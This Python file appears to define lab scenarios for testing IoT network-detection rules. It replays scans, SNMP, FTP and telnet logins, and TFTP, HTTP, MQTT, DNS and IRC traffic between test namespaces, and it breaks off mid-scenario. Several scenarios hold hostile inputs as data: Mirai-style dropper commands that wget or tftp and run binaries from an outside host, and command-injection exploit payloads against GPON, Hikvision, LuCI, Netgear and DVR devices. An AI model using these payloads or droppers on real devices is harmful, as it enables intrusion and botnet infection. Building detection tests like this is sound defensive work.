"""The lab's IT-protocol scenarios: scans, SNMP, DNS, HTTP, FTP, MQTT."""
from __future__ import annotations

from scenario import Scenario, _nmap

IT = [
    Scenario("nmap-syn-scan-200", "nmap -sS of 200 TCP ports of a device from a corporate host",
             ["192.168.200.10/24"], ["10.1.1.50/8"], clients=[_nmap("-sS -p1-200")],
             expect={"iot-vlan-unauthorized-access": 1}, tools=["nmap"]),
    Scenario("nmap-fin-scan", "nmap -sF of 19 ports", ["192.168.200.10/24"], ["10.1.1.50/8"],
             clients=[_nmap("-sF -p1-19")], expect={"tcp-fin-scan": 1}, tools=["nmap"]),
    Scenario("nmap-xmas-scan", "nmap -sX of 19 ports", ["192.168.200.10/24"], ["10.1.1.50/8"],
             clients=[_nmap("-sX -p1-19")], expect={"tcp-xmas-scan": 1}, tools=["nmap"]),
    Scenario("nmap-null-scan", "nmap -sN of 19 ports", ["192.168.200.10/24"], ["10.1.1.50/8"],
             clients=[_nmap("-sN -p1-19")], expect={"tcp-null-scan": 1}, tools=["nmap"]),
    Scenario("nmap-ack-scan", "nmap -sA of 39 ports", ["192.168.200.10/24"], ["10.1.1.50/8"],
             clients=[_nmap("-sA -p1-39")], expect={"tcp-ack-scan": 1}, tools=["nmap"]),
    Scenario("nmap-udp-scan", "nmap -sU of 19 UDP ports (ICMP rate limit off in the device namespace)",
             ["192.168.200.10/24"], ["10.1.1.50/8"], clients=[_nmap("-sU -p1-19")],
             expect={"udp-port-scan": 1}, tools=["nmap"], server_sysctl=["net.ipv4.icmp_ratelimit=0"]),
    Scenario("nmap-ping-sweep", "nmap -sn -PE --send-ip over 39 device addresses",
             [f"192.168.200.{i}/24" for i in range(1, 40)], ["10.1.1.50/8"],
             clients=["nmap -n -sn -PE --send-ip 192.168.200.1-39"], expect={"icmp-echo-sweep": 1}, tools=["nmap"]),
    Scenario("ping-one-device", "ping -c 30 of one device (a monitor's pattern: no sweep)",
             ["192.168.200.10/24"], ["10.1.1.50/8"], clients=["ping -n -c 30 -i 0.2 192.168.200.10"],
             expect={}, tools=["iputils-ping"]),
    Scenario("snmpwalk-public", "net-snmp snmpwalk -v2c -c public of the system and interfaces trees",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["snmpd -f -Lo -C -c {tmp}/snmpd.conf udp:192.168.200.10:161"],
             clients=["sleep 1", "snmpwalk -v2c -c public 192.168.200.10 1.3.6.1.2.1.1", "snmpwalk -v2c -c public 192.168.200.10 1.3.6.1.2.1.2"],
             expect={"iot-snmp-default-community": 1, "iot-snmp-v1-v2c": 1}, tools=["snmpd", "snmp"],
             setup=["snmpd.conf=rocommunity public\nrocommunity n0c-m0nitor\nsysDescr Linux ipcam\n"]),
    Scenario("snmpget-site-community", "net-snmp snmpget -v2c with the site community",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["snmpd -f -Lo -C -c {tmp}/snmpd.conf udp:192.168.200.10:161"],
             clients=["sleep 1", "snmpget -v2c -c n0c-m0nitor 192.168.200.10 1.3.6.1.2.1.1.1.0"],
             expect={"iot-snmp-v1-v2c": 1}, tools=["snmpd", "snmp"],
             setup=["snmpd.conf=rocommunity public\nrocommunity n0c-m0nitor\nsysDescr Linux ipcam\n"]),
    Scenario("dig-public-resolver", "dig from a device to an outside resolver (dnsmasq), 20 names",
             ["198.51.100.20/24"], ["192.168.200.10/24"],
             servers=["dnsmasq -d -k --no-resolv --no-hosts -i veth-s --bind-interfaces --address=/vendor.example/192.0.2.10"],
             clients=["sleep 1"] + [f"dig +tries=1 +time=1 @198.51.100.20 h{i}.vendor.example A" for i in range(20)],
             expect={"iot-dns-unsanctioned-resolver": 1}, tools=["dnsmasq-base", "bind9-dnsutils"]),
    Scenario("dig-sanctioned-resolver", "dig from a device to the sanctioned resolver 10.0.0.53",
             ["10.0.0.53/8"], ["192.168.200.10/24"],
             servers=["dnsmasq -d -k --no-resolv --no-hosts -i veth-s --bind-interfaces --address=/vendor.example/192.0.2.10"],
             clients=["sleep 1", "dig +tries=1 +time=1 @10.0.0.53 time.vendor.example A"],
             expect={}, tools=["dnsmasq-base", "bind9-dnsutils"]),
    Scenario("curl-admin-page", "curl of a device's /admin/ page and its stylesheet from a workstation (busybox httpd)",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["busybox httpd -f -p 192.168.200.10:80 -h {tmp}/www"],
             clients=["sleep 3", "curl -s -o /dev/null http://192.168.200.10/admin/",
                      "curl -s -o /dev/null http://192.168.200.10/admin/style.css"],
             expect={"iot-http-admin-plaintext": 1}, tools=["curl", "busybox"],
             setup=["www/admin/index.html=<html>admin</html>\n", "www/admin/style.css=body{}\n"]),
    Scenario("curl-static-and-api", "curl of a login page's CSS/PNG/JS and /api/config (no admin page)",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["busybox httpd -f -p 192.168.200.10:80 -h {tmp}/www"],
             clients=["sleep 3"] + [f"curl -s -o /dev/null http://192.168.200.10/{p}" for p in
                                    ("login/style.css", "login/logo.png", "admin/app.js", "api/config")],
             expect={}, tools=["curl", "busybox"],
             setup=["www/login/style.css=body{}\n", "www/login/logo.png=PNG\n", "www/admin/app.js=1;\n",
                    "www/api/config={}\n"]),
    Scenario("curl-admin-from-mgmt", "curl of /admin/ from the management net",
             ["192.168.200.10/24"], ["10.10.0.5/8"],
             servers=["busybox httpd -f -p 192.168.200.10:80 -h {tmp}/www"],
             clients=["sleep 3", "curl -s -o /dev/null http://192.168.200.10/admin/"],
             expect={}, tools=["curl", "busybox"], setup=["www/admin/index.html=<html>admin</html>\n"]),
    Scenario("ftp-anonymous", "curl anonymous FTP listing of a camera's vsftpd",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["vsftpd {tmp}/vsftpd.conf"],
             clients=["sleep 3", "curl -s --max-time 5 ftp://192.168.200.10/"],
             expect={"iot-ftp-session": 1, "iot-ftp-default-credentials": 1}, tools=["vsftpd", "curl"],
             setup=["vsftpd.conf=listen=YES\nlisten_address=192.168.200.10\nanonymous_enable=YES\nlocal_enable=NO\n"
                    "anon_root={tmp}/ftproot\nsecure_chroot_dir={tmp}/empty\nbackground=NO\nseccomp_sandbox=NO\n"
                    "run_as_launching_user=NO\nnopriv_user=nobody\n", "ftproot/readme.txt=x\n", "empty/.keep=\n"]),
    Scenario("ftp-bruteforce", "20 curl FTP logins with wrong passwords (a brute force)",
             ["192.168.200.10/24"], ["10.1.1.50/8"],
             servers=["vsftpd {tmp}/vsftpd.conf"],
             clients=["sleep 1"] + [f"curl -s --max-time 3 -u admin:guess{i} ftp://192.168.200.10/" for i in range(20)],
             expect={"iot-ftp-session": 1, "iot-ftp-default-credentials": 1, "iot-ftp-login-bruteforce": 1},
             tools=["vsftpd", "curl"],
             setup=["vsftpd.conf=listen=YES\nlisten_address=192.168.200.10\nanonymous_enable=NO\nlocal_enable=YES\n"
                    "secure_chroot_dir={tmp}/empty\nbackground=NO\nseccomp_sandbox=NO\ndelay_failed_login=0\n"
                    "max_login_fails=1\n", "empty/.keep=\n"]),
    Scenario("mqtt-credentials", "mosquitto_pub with a user name and password to a device-side broker",
             ["192.168.200.2/24"], ["192.168.200.10/24"],
             servers=["mosquitto -c {tmp}/mosquitto.conf"],
             clients=["sleep 1", "mosquitto_pub -h 192.168.200.2 -u admin -P admin -t sensors/t -m 21.5"],
             expect={}, tools=["mosquitto", "mosquitto-clients"],
             setup=["mosquitto.conf=listener 1883 192.168.200.2\nallow_anonymous true\n"]),
]

DEVICE, CORP_WS, CORP_SRV = "192.168.200.10", "10.1.1.50", "10.1.1.60"
# Debian's busybox has no telnetd applet: inetutils telnetd, handed each accepted socket by socat
# (`nofork`: the socket itself is the daemon's stdin/stdout, as inetd would pass it)
TELNETD = "socat TCP-LISTEN:23,bind={addr},reuseaddr,fork EXEC:'/usr/sbin/telnetd -h -E {clients}/telnet_login.sh',nofork"
TELNET_TOOLS = ["inetutils-telnetd", "socat", "inetutils-telnet"]


def _telnet_typed(host: str, *lines: str) -> str:
    # inetutils telnet typing one line a second, as a person at the keyboard (stdin is the pipe)
    typed = "; ".join(f"echo '{line}'; sleep 1" for line in lines)
    return f"(sleep 2; {typed}; sleep 1) | telnet {host} 23"


IT += [
    Scenario("telnet-default-login", "inetutils telnet from a workstation logs in to a camera's busybox telnetd as "
             "root/xc3511 and types a command", [f"{DEVICE}/24"], [f"{CORP_WS}/8"],
             servers=[TELNETD.replace("{addr}", DEVICE)],
             clients=["sleep 1", _telnet_typed(DEVICE, "root", "xc3511", "ps", "exit")],
             expect={"iot-telnet-session": 1, "iot-telnet-default-credentials": 1}, tools=TELNET_TOOLS),
    Scenario("telnet-site-login", "the same, with the site's own admin password", [f"{DEVICE}/24"], [f"{CORP_WS}/8"],
             servers=[TELNETD.replace("{addr}", DEVICE)],
             clients=["sleep 1", _telnet_typed(DEVICE, "admin", "Site-Str0ng-7", "ps", "exit")],
             expect={"iot-telnet-session": 1}, tools=TELNET_TOOLS),
    Scenario("telnet-one-typo", "one mistyped password, then the right one", [f"{DEVICE}/24"], [f"{CORP_WS}/8"],
             servers=[TELNETD.replace("{addr}", DEVICE)],
             clients=["sleep 1", _telnet_typed(DEVICE, "admin", "Site-Strong-7", "admin", "Site-Str0ng-7", "exit")],
             expect={"iot-telnet-session": 1}, tools=TELNET_TOOLS),
    # hydra 9.4's telnet module stalls on inetutils telnetd's option negotiation (6 tries a minute,
    # none after -w 5), so the brute force is the real telnet client typing wrong passwords
    Scenario("telnet-password-guessing", "4 inetutils telnet sessions of 3 wrong admin passwords each (12 failures)",
             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", DEVICE)],
             clients=["sleep 1"] + [_telnet_typed(DEVICE, *[x for j in range(3) for x in ("admin", f"guess{i}{j}")])
                                    for i in range(4)],
             expect={"iot-telnet-session": 1, "iot-telnet-login-failures": 1}, tools=TELNET_TOOLS),
    Scenario("nmap-telnet-sweep", "nmap -sS -p23,2323 of 12 device addresses (a Mirai-style telnet sweep)",
             [f"192.168.200.{i}/24" for i in range(1, 13)], [f"{CORP_WS}/8"],
             clients=["nmap -n -Pn -sS -p23,2323 --max-retries 0 -T4 192.168.200.1-12"],
             expect={"telnet-scan-burst": 1}, tools=["nmap"]),
    Scenario("telnet-corporate-server", "inetutils telnet between two corporate hosts (no IoT device)", [f"{CORP_SRV}/8"],
             [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", CORP_SRV)],
             clients=["sleep 1", _telnet_typed(CORP_SRV, "root", "xc3511", "exit")], tools=TELNET_TOOLS),
]

FW_SERVER, OUTSIDE = "10.0.0.80", "198.51.100.20"   # the sanctioned firmware server (IOT_SERVICES); an internet host
TFTPD = "in.tftpd -L -c -p -u tftp -s {tmp}/tftp -a {addr}:69"
TFTP_TOOLS = ["tftpd-hpa", "tftp-hpa"]
TFTP_FILES = [f"{side}/{name}" for side in ("tftp", "client") for name in ("camera-fw-5.7.bin=FWIMAGE\n", "ipcam.cfg=ntp=10.0.0.123\n")]


def _tftp(name: str, what: str, server: str, client: str, command: str, expect: dict) -> Scenario:
    # files and the root are world-writable: tftpd drops to the tftp user, and -c creates what a put sends
    return Scenario(name, what, [f"{server}/8" if server.startswith("10.") else f"{server}/24"],
                    [f"{client}/8" if client.startswith("10.") else f"{client}/24"],
                    servers=["chmod -R a+rwX {tmp}/tftp && " + TFTPD.replace("{addr}", server)],
                    clients=["sleep 1", f"cd {{tmp}}/client && tftp -m binary {server} -c {command}"],
                    expect=expect, tools=TFTP_TOOLS, setup=TFTP_FILES)


IT += [
    _tftp("tftp-firmware-pull", "tftp-hpa on a camera fetches its firmware image from the firmware server (tftpd-hpa)",
          FW_SERVER, DEVICE, "get camera-fw-5.7.bin", {"iot-tftp-from-device": 1, "iot-firmware-tftp-pull": 1}),
    _tftp("tftp-config-pull", "the camera fetches its configuration file over TFTP", FW_SERVER, DEVICE, "get ipcam.cfg",
          {"iot-tftp-from-device": 1}),
    _tftp("tftp-firmware-push", "a workstation puts a firmware image onto a camera's tftpd", DEVICE, CORP_WS,
          "put camera-fw-5.7.bin", {"iot-firmware-tftp-push": 1}),
    _tftp("tftp-config-push", "a workstation puts a configuration file onto a camera's tftpd", DEVICE, CORP_WS,
          "put ipcam.cfg", {}),
    _tftp("tftp-corporate-pull", "a workstation fetches a firmware image from the firmware server (no IoT device)",
          FW_SERVER, CORP_WS, "get camera-fw-5.7.bin", {}),
]


def _telnet_root(name: str, what: str, commands: list[str], expect: dict) -> Scenario:
    # a Mirai-style session: log in with the factory default, then type the commands
    return Scenario(name, what, [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", DEVICE)],
                    clients=["sleep 1", _telnet_typed(DEVICE, "root", "xc3511", *commands, "exit")],
                    expect={"iot-telnet-session": 1, "iot-telnet-default-credentials": 1, **expect}, tools=TELNET_TOOLS)


IT += [
    _telnet_root("telnet-busybox-tag", "telnet root login, then Mirai's busybox check (/bin/busybox ECCHI)",
                 ["/bin/busybox ECCHI"], {"iot-botnet-busybox-tag": 1}),
    _telnet_root("telnet-tftp-dropper", "telnet root login, then a TFTP dropper (tftp -g -r mips, chmod, run)",
                 [f"cd /tmp; tftp -g -r mips {OUTSIDE}; chmod 777 mips; ./mips telnet.x86"], {"iot-botnet-tftp-dropper": 1}),
    _telnet_root("telnet-wget-dropper", "telnet root login, then a wget dropper (wget http://..; chmod +x; run)",
                 [f"cd /tmp; wget http://{OUTSIDE}/bins/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7"],
                 {"iot-botnet-wget-dropper": 1}),
    Scenario("telnet-admin-commands", "telnet login with the site password, then an administrator's busybox, TFTP "
             "upload and wget commands", [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", DEVICE)],
             clients=["sleep 1", _telnet_typed(DEVICE, "admin", "Site-Str0ng-7", "/bin/busybox ls /tmp",
                                               f"tftp -p -l ipcam.log {FW_SERVER}",
                                               f"wget http://{FW_SERVER}/fw/manifest.json", "exit")],
             expect={"iot-telnet-session": 1}, tools=TELNET_TOOLS),
]

HTTPD = "{py} {clients}/http_device.py {addr} {tmp}/www"
WWW = ["www/index.html=<html>ipcam</html>\n", "www/fw/camera-fw-5.7.bin=FWIMAGE\n", "www/fw/manifest.json={}\n",
       "www/bins/mirai.arm7=ELF\n", "www/i.sh=cd /tmp\n", "camera-fw-5.7.bin=FWIMAGE\n",
       "passwords.txt=" + "".join(f"guess{i}\n" for i in range(12))]
CURL = "curl -s -o /dev/null --max-time 5"


def _http(name: str, what: str, server: str, client: str, commands: list[str], expect: dict,
          tools: tuple[str, ...] = ("curl",)) -> Scenario:
    return Scenario(name, what, [f"{server}/8" if server.startswith("10.") else f"{server}/24"],
                    [f"{client}/8" if client.startswith("10.") else f"{client}/24"],
                    servers=[HTTPD.replace("{addr}", server)], clients=["sleep 2", *commands], expect=expect,
                    tools=list(tools), setup=WWW)


IT += [
    _http("http-basic-default", "curl with Basic auth admin/admin to a camera's CGI from a workstation", DEVICE, CORP_WS,
          [f"{CURL} -u admin:admin http://{DEVICE}/cgi-bin/status"], {"iot-http-basic-auth-default-credentials": 1}),
    _http("http-basic-site", "the same with the site password", DEVICE, CORP_WS,
          [f"{CURL} -u admin:Site-Str0ng-7 http://{DEVICE}/cgi-bin/status"], {}),
    # hydra 9.4's http-post-form against this server reconnected in a loop (571 SYNs, 2 POSTs in 40 s),
    # so the guessing is curl posting the form, one connection per try as a scripted brute force does
    _http("http-login-guessing", "12 curl posts of the camera's login form with wrong passwords", DEVICE, CORP_WS,
          [f"{CURL} -d user=admin -d pass=guess{i} http://{DEVICE}/login.cgi" for i in range(12)],
          {"iot-http-login-bruteforce": 1}),
    _http("http-login-typo", "curl posting the login form twice: one typo, then the right password", DEVICE, CORP_WS,
          [f"{CURL} -d user=admin -d pass=Site-Strong-7 http://{DEVICE}/login.cgi",
           f"{CURL} -d user=admin -d pass=Site-Str0ng-7 http://{DEVICE}/login.cgi"], {}),
    _http("http-firmware-upload", "curl uploading a firmware image to the camera's /upgrade.cgi from a workstation",
          DEVICE, CORP_WS, [f"{CURL} -F fw=@{{tmp}}/camera-fw-5.7.bin http://{DEVICE}/upgrade.cgi"],
          {"iot-firmware-upload-to-device-http": 1}),
    _http("http-settings-post", "curl posting a settings form to the camera's /settings.cgi", DEVICE, CORP_WS,
          [f"{CURL} -d ntp=10.0.0.123 http://{DEVICE}/settings.cgi"], {}),
    _http("http-firmware-internal", "a camera's curl fetching its firmware image from the firmware server", FW_SERVER,
          DEVICE, [f"{CURL} http://{FW_SERVER}/fw/camera-fw-5.7.bin"], {"iot-firmware-http-download": 1}),
    _http("http-firmware-external", "a camera's curl fetching a firmware image from an internet host", OUTSIDE, DEVICE,
          [f"{CURL} http://{OUTSIDE}/fw/camera-fw-5.7.bin"], {"iot-firmware-from-external-host": 1}),
    _http("http-manifest-external", "a camera's curl fetching an update manifest (JSON) from an internet host", OUTSIDE,
          DEVICE, [f"{CURL} http://{OUTSIDE}/fw/manifest.json", f"{CURL} http://{OUTSIDE}/"], {}),
    _http("http-botnet-binary", "a camera's curl fetching a Mirai-named ARM binary from an internet host", OUTSIDE,
          DEVICE, [f"{CURL} http://{OUTSIDE}/bins/mirai.arm7"], {"iot-botnet-arch-binary-download": 1}),
    _http("http-botnet-script", "a camera's curl fetching a shell script from an internet host", OUTSIDE, DEVICE,
          [f"{CURL} http://{OUTSIDE}/i.sh"], {"iot-botnet-shell-script-download": 1}),
]

MQTT_BROKER = "192.168.200.2"
COAP_TOOLS = ["libcoap3-bin"]
SSHD = ("ssh-keygen -q -t ed25519 -N '' -f {tmp}/hostkey && mkdir -p /run/sshd && "
        "/usr/sbin/sshd -D -e -f {tmp}/sshd_config -o ListenAddress={addr}")
SSHD_CONFIG = "sshd_config=HostKey {tmp}/hostkey\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\n"
SSH = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5"

IT += [
    Scenario("mqtt-port-1884", "mosquitto_pub with a user name from a sensor to a broker listening on 1884",
             [f"{MQTT_BROKER}/24"], [f"{DEVICE}/24"], servers=["mosquitto -c {tmp}/mosquitto.conf"],
             clients=["sleep 1", f"mosquitto_pub -h {MQTT_BROKER} -p 1884 -u sensor -P s3nsor -t sensors/t -m 21.5"],
             expect={"iot-mqtt-nonstandard-port": 1}, tools=["mosquitto", "mosquitto-clients"],
             setup=[f"mosquitto.conf=listener 1884 {MQTT_BROKER}\nallow_anonymous true\n"]),
    Scenario("coap-get-core", "libcoap coap-client GET /.well-known/core of a device's coap-server (5683)",
             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[f"coap-server-notls -A {DEVICE} -p 5683"],
             clients=["sleep 1", f"coap-client-notls -B 3 -m get coap://{DEVICE}/.well-known/core",
                      f"coap-client-notls -B 3 -m get coap://{DEVICE}/time"],
             expect={"iot-coap-without-dtls": 1}, tools=COAP_TOOLS),
    Scenario("coap-port-5700", "the same on a non-standard port (5700)", [f"{DEVICE}/24"], [f"{CORP_WS}/8"],
             servers=[f"coap-server-notls -A {DEVICE} -p 5700"],
             clients=["sleep 1", f"coap-client-notls -B 3 -m get coap://{DEVICE}:5700/time"],
             expect={"iot-coap-without-dtls": 1}, tools=COAP_TOOLS),
    Scenario("coaps-psk", "libcoap over DTLS (PSK, 5684): coap-client-openssl GET /time", [f"{DEVICE}/24"],
             [f"{CORP_WS}/8"], servers=[f"coap-server-openssl -A {DEVICE} -k s1te-psk-key -h ipcam"],
             clients=["sleep 1", f"coap-client-openssl -B 3 -u ipcam -k s1te-psk-key -m get coaps://{DEVICE}/time"],
             tools=COAP_TOOLS),
    Scenario("ssh-device-to-internet", "OpenSSH client on a device connecting to an internet host's sshd (key-only, "
             "the login is refused)", [f"{OUTSIDE}/24"], [f"{DEVICE}/24"], servers=[SSHD.replace("{addr}", OUTSIDE)],
             clients=["sleep 2", f"{SSH} root@{OUTSIDE} true"], expect={"iot-outbound-ssh": 1},
             tools=["openssh-server", "openssh-client"], setup=[SSHD_CONFIG]),
    Scenario("ssh-workstation-to-device", "OpenSSH client on a workstation connecting to a device's sshd",
             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[SSHD.replace("{addr}", DEVICE)],
             clients=["sleep 2", f"{SSH} root@{DEVICE} true"], tools=["openssh-server", "openssh-client"],
             setup=[SSHD_CONFIG]),
]

IOT_PEER = "192.168.200.11"     # a second device of the IoT VLAN
ANON_FTP = ("vsftpd.conf=listen=YES\nlisten_address={addr}\nanonymous_enable=YES\nlocal_enable=NO\n"
            "anon_root={tmp}/ftproot\nsecure_chroot_dir={tmp}/empty\nbackground=NO\nseccomp_sandbox=NO\n"
            "run_as_launching_user=NO\nnopriv_user=nobody\n")
LOCAL_FTP = ("vsftpd.conf=listen=YES\nlisten_address={addr}\nanonymous_enable=NO\nlocal_enable=YES\n"
             "secure_chroot_dir={tmp}/empty\nbackground=NO\nseccomp_sandbox=NO\ndelay_failed_login=0\n")

IT += [
    Scenario("mqtt-anonymous", "mosquitto_pub without a user name from a sensor to the broker", [f"{MQTT_BROKER}/24"],
             [f"{DEVICE}/24"], servers=["mosquitto -c {tmp}/mosquitto.conf"],
             clients=["sleep 1", f"mosquitto_pub -h {MQTT_BROKER} -t sensors/t -m 21.5"],
             expect={"iot-mqtt-anonymous-connect": 1, "iot-mqtt-plaintext-publish": 1},
             tools=["mosquitto", "mosquitto-clients"],
             setup=[f"mosquitto.conf=listener 1883 {MQTT_BROKER}\nallow_anonymous true\n"]),
    Scenario("mqtt-subscribe-credentials", "mosquitto_sub with a user name, one topic, no publish (stops after 2 s)",
             [f"{MQTT_BROKER}/24"], [f"{DEVICE}/24"], servers=["mosquitto -c {tmp}/mosquitto.conf"],
             clients=["sleep 1", f"mosquitto_sub -h {MQTT_BROKER} -u sensor -P s3nsor -t cmd/# -W 2"],
             expect={"iot-mqtt-cleartext-credentials": 1}, tools=["mosquitto", "mosquitto-clients"],
             setup=[f"mosquitto.conf=listener 1883 {MQTT_BROKER}\nallow_anonymous true\n"]),
    Scenario("ftp-firmware-download", "curl anonymous FTP download of a firmware image from a camera's vsftpd",
             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=["vsftpd {tmp}/vsftpd.conf"],
             clients=["sleep 3", f"curl -s --max-time 5 -o /dev/null ftp://{DEVICE}/camera-fw-5.7.bin"],
             expect={"iot-ftp-session": 1, "iot-ftp-default-credentials": 1, "iot-firmware-ftp-transfer": 1},
             tools=["vsftpd", "curl"],
             setup=[ANON_FTP.replace("{addr}", DEVICE), "ftproot/camera-fw-5.7.bin=FWIMAGE\n", "empty/.keep=\n"]),
    Scenario("ftp-site-user", "curl FTP login as a site account (operator, refused: no such local user)",
             [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=["vsftpd {tmp}/vsftpd.conf"],
             clients=["sleep 3", f"curl -s --max-time 5 -u operator:Site-Str0ng-7 ftp://{DEVICE}/"],
             expect={"iot-ftp-session": 1}, tools=["vsftpd", "curl"],
             setup=[LOCAL_FTP.replace("{addr}", DEVICE), "empty/.keep=\n"]),
    _http("http-device-to-workstation", "a camera's curl to a web server on a corporate workstation", CORP_WS, DEVICE,
          [f"{CURL} http://{CORP_WS}/"], {"iot-to-corporate-connection": 1}),
    _http("http-device-to-device", "a camera's curl to another camera's web interface", DEVICE, IOT_PEER,
          [f"{CURL} http://{DEVICE}/"], {"iot-east-west-admin-port": 1}),
]

ATTACKER = "203.0.113.7"   # an internet host
EXPLOITS = {   # scenario -> (curl arguments after the URL's host, the rule); payloads as public exploit scripts send them
    "http-exploit-boaform": ("-X POST -d 'username=admin&psd=Feefifofum' 'http://{d}/boaform/admin/formLogin'",
                             "iot-exploit-boaform-login"),
    "http-exploit-dvr-shell": ("'http://{d}/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws'",
                               "iot-exploit-dvr-shell-endpoint"),
    "http-exploit-gpon": ("-X POST -d 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`;id&ipv=0' "
                          "'http://{d}/GponForm/diag_Form?images/'", "iot-exploit-gpon-diag-form"),
    "http-exploit-hikvision": ("-X PUT -H 'Content-Type: application/x-www-form-urlencoded; charset=UTF-8' "
                               "--data-binary '<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>' "
                               "'http://{d}/SDK/webLanguage'", "iot-exploit-hikvision-weblanguage"),
    "http-exploit-luci": ("'http://{d}/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)'",
                          "iot-exploit-luci-locale-injection"),
    "http-exploit-netgear": ("'http://{d}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1'",
                             "iot-exploit-netgear-setup-cgi"),
}
LOOKALIKES = [   # the same endpoints without the exploit's tell-tale part
    "-X POST -d 'username=admin' 'http://{d}/boaform/admin/formLogout'", "'http://{d}/shellinabox/'",
    "'http://{d}/GponForm/LoginForm'", "'http://{d}/SDK/webLanguage'",
    "'http://{d}/cgi-bin/luci/;stok=/locale?form=language'", "'http://{d}/setup.cgi?next_file=netgear.cfg'",
]

IT += [_http(name, f"curl from an internet host sending the {rule} request to a camera", DEVICE, ATTACKER,
             [f"{CURL} -g --path-as-is " + args.format(d=DEVICE)], {rule: 1}) for name, (args, rule) in EXPLOITS.items()]
IT += [_http("http-exploit-lookalikes", "curl from an internet host requesting the exploited endpoints without the "
             "exploit (logout, a shell-in-a-box path, login form, GET of webLanguage, another locale form, setup.cgi)",
             DEVICE, ATTACKER, [f"{CURL} -g --path-as-is " + a.format(d=DEVICE) for a in LOOKALIKES], {})]

RESOLVER = "10.0.0.53"    # the sanctioned resolver (DNS_RESOLVERS)
DNSMASQ = "dnsmasq -d -k --no-resolv --no-hosts -i veth-s --bind-interfaces --address=/#/192.0.2.10"
LABELS = ["mzxw6ytboi2dkmrtgq3tqojqmfrggzdfmztwq2lkmnxw6ytboi2dkmrt", "gezdgnbvgy3tqojqgezdgnbvgy3tqojqgezdgnbvgy3tq",
          "nbswy3dpeb3w64tmmqqgc3dpnrqxoylpnbswy3dpeb3w64tmmq", "mfzwizltmrqxg2lbnfzwizltmrqxg2lbnfzwizltmrqx",
          "onswg4tfoqqgc3lpovxhiidpmyqgczlbonswg4tfoqqgc3lp", "krugkidrovuwg2zamjzg653oebtg66bankrugkidrovuwg2z",
          "ojswg33smqqgc5bamfzwizltmrqxg2lbojswg33smqqgc5ba", "mnqw2zlsmeqgg3dpovsca43povzgezlsmnqw2zlsmeqgg3dp"]
SSL_SERVER = ("openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=cloud.example -days 2 -keyout {tmp}/k.pem "
              "-out {tmp}/c.pem 2>/dev/null && openssl s_server -quiet -accept {addr}:{port} -cert {tmp}/c.pem -key {tmp}/k.pem")
SSL_CLIENT = "echo hi | timeout 5 openssl s_client -connect {addr}:{port} -servername cloud.example -quiet"

IT += [
    Scenario("dig-long-labels", "dig from a device to the sanctioned resolver: 8 names with 44-56 character base32 labels",
             [f"{RESOLVER}/8"], [f"{DEVICE}/24"], servers=[DNSMASQ],
             clients=["sleep 1"] + [f"dig +tries=1 +time=1 @{RESOLVER} {lab}.t.vendor.example TXT" for lab in LABELS],
             expect={"iot-dns-tunnelling-long-label": 1}, tools=["dnsmasq-base", "bind9-dnsutils"]),
    Scenario("dig-dynamic-dns", "dig from a device to the sanctioned resolver for a duckdns.org name",
             [f"{RESOLVER}/8"], [f"{DEVICE}/24"], servers=[DNSMASQ],
             clients=["sleep 1", f"dig +tries=1 +time=1 @{RESOLVER} cam-7f3a.duckdns.org A"],
             expect={"iot-dynamic-dns-lookup": 1}, tools=["dnsmasq-base", "bind9-dnsutils"]),
    Scenario("tls-port-4433", "openssl s_client on a device to an internet host's s_server on 4433", [f"{OUTSIDE}/24"],
             [f"{DEVICE}/24"], servers=[SSL_SERVER.replace("{addr}", OUTSIDE).replace("{port}", "4433")],
             clients=["sleep 6", SSL_CLIENT.replace("{addr}", OUTSIDE).replace("{port}", "4433")],
             expect={"iot-tls-rare-port": 1}, tools=["openssl"]),
    Scenario("tls-port-443", "the same on 443", [f"{OUTSIDE}/24"], [f"{DEVICE}/24"],
             servers=[SSL_SERVER.replace("{addr}", OUTSIDE).replace("{port}", "443")],
             clients=["sleep 6", SSL_CLIENT.replace("{addr}", OUTSIDE).replace("{port}", "443")],
             tools=["openssl"]),
]

IRC_SERVER = "socat TCP-LISTEN:6667,bind={addr},reuseaddr,fork SYSTEM:'sleep 4'"   # accepts, says nothing
IT += [
    Scenario("irc-from-device", "the ii IRC client on a device registering with an internet host's port 6667",
             [f"{OUTSIDE}/24"], [f"{DEVICE}/24"], servers=[IRC_SERVER.replace("{addr}", OUTSIDE)],
             clients=["sleep 1", f"timeout 3 ii -s {OUTSIDE} -p 6667 -n cam7f3a -i {{tmp}}/irc"],
             expect={"iot-irc-c2": 1}, tools=["ii", "socat"]),
    Scenario("irc-from-workstation", "the same client on a corporate workstation", [f"{OUTSIDE}/24"], [f"{CORP_WS}/8"],
             servers=[IRC_SERVER.replace("{addr}", OUTSIDE)],
             clients=["sleep 1", f"timeout 3 ii -s {OUTSIDE} -p 6667 -n alice -i {{tmp}}/irc"], tools=["ii", "socat"]),
]

MGMT_HOST = "10.10.0.5"
IT += [
    Scenario(f"nmap-upnp-{name}", f"nmap -sU -p1900 --script upnp-info (a unicast SSDP M-SEARCH) {what}",
